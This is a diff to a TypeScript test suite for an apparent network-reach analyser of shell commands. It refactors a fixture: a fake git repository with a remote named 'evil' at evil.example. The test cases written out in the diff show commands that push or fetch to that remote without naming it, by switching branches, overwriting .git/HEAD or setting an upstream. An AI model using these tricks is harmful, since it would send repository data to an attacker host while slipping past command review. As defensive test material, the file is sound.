@@ -24,6 +24,15 @@ interface Case {
 }
 
 const root = realpathSync(mkdtempSync(join(tmpdir(), 'tg-reach-')));
+
+/** A repository with two remotes, and a branch `other` whose remote is `evil` (the branch-switch cases). */
+const BRANCHES_REPO = {
+  '.git/HEAD': 'ref: refs/heads/main\n',
+  '.git/objects/.k': '',
+  '.git/refs/heads/.k': '',
+  '.git/config':
+    '[remote "origin"]\n\turl = https://github.com/o/r\n[remote "evil"]\n\turl = https://evil.example/r\n[branch "other"]\n\tremote = evil\n',
+};
 afterAll(() => rmSync(root, { recursive: true, force: true }));
 
 function fmt(n: NetworkAccess): string {
@@ -484,73 +493,37 @@ table('git', [
   {
     doc: 'attack (was allowed): git-push(1) without a remote uses the branch HEAD names — checkout switches it first',
     cmd: 'git checkout other && git push',
-    files: {
-      '.git/HEAD': 'ref: refs/heads/main\n',
-      '.git/objects/.k': '',
-      '.git/refs/heads/.k': '',
-      '.git/config':
-        '[remote "origin"]\n\turl = https://github.com/o/r\n[remote "evil"]\n\turl = https://evil.example/r\n[branch "other"]\n\tremote = evil\n',
-    },
+    files: BRANCHES_REPO,
     reach: ['write ? shell:git'],
   },
   {
     doc: 'attack: switch, then fetch without a remote',
     cmd: 'git switch other; git fetch',
-    files: {
-      '.git/HEAD': 'ref: refs/heads/main\n',
-      '.git/objects/.k': '',
-      '.git/refs/heads/.k': '',
-      '.git/config':
-        '[remote "origin"]\n\turl = https://github.com/o/r\n[remote "evil"]\n\turl = https://evil.example/r\n[branch "other"]\n\tremote = evil\n',
-    },
+    files: BRANCHES_REPO,
     reach: ['read ? shell:git'],
   },
   {
     doc: 'attack: a shell write of .git/HEAD',
     cmd: "echo 'ref: refs/heads/other' > .git/HEAD; git push",
-    files: {
-      '.git/HEAD': 'ref: refs/heads/main\n',
-      '.git/objects/.k': '',
-      '.git/refs/heads/.k': '',
-      '.git/config':
-        '[remote "origin"]\n\turl = https://github.com/o/r\n[remote "evil"]\n\turl = https://evil.example/r\n[branch "other"]\n\tremote = evil\n',
-    },
+    files: BRANCHES_REPO,
     reach: ['write ? shell:git'],
   },
   {
     doc: 'attack: branch -u sets the upstream (branch.*) before a push without a remote',
     cmd: 'git branch -u evil/main && git push',
-    files: {
-      '.git/HEAD': 'ref: refs/heads/main\n',
-      '.git/objects/.k': '',
-      '.git/refs/heads/.k': '',
-      '.git/config':
-        '[remote "origin"]\n\turl = https://github.com/o/r\n[remote "evil"]\n\turl = https://evil.example/r\n[branch "other"]\n\tremote = evil\n',
-    },
+    files: BRANCHES_REPO,
     reach: ['write ? shell:git'],
   },
   {
     doc: 'twin: checkout -b then push naming the remote — tracking writes touch branch.* only, the URL stands',
     cmd: 'git checkout -b z && git add -A && git commit -qm x && git push -u origin z',
-    files: {
-      '.git/HEAD': 'ref: refs/heads/main\n',
-      '.git/objects/.k': '',
-      '.git/refs/heads/.k': '',
-      '.git/config':
-        '[remote "origin"]\n\turl = https://github.com/o/r\n[remote "evil"]\n\turl = https://evil.example/r\n[branch "other"]\n\tremote = evil\n',
-    },
+    files: BRANCHES_REPO,
     reach: ['write github.com:443 shell:git:.git/config'],
   },
   {
     doc: 'twin: commit then push without a remote — HEAD still names the same branch',
     cmd: 'git commit -qm x && git push',
-    files: {
-      '.git/HEAD': 'ref: refs/heads/main\n',
-      '.git/objects/.k': '',
-      '.git/refs/heads/.k': '',
-      '.git/config':
-        '[remote "origin"]\n\turl = https://github.com/o/r\n[remote "evil"]\n\turl = https://evil.example/r\n[branch "other"]\n\tremote = evil\n',
-    },
+    files: BRANCHES_REPO,
     reach: ['write github.com:443 shell:git:.git/config'],
   },
   { doc: 'no remote configured ⇒ uncertain', cmd: 'git init -q . && git fetch', reach: ['read ? shell:git'] },
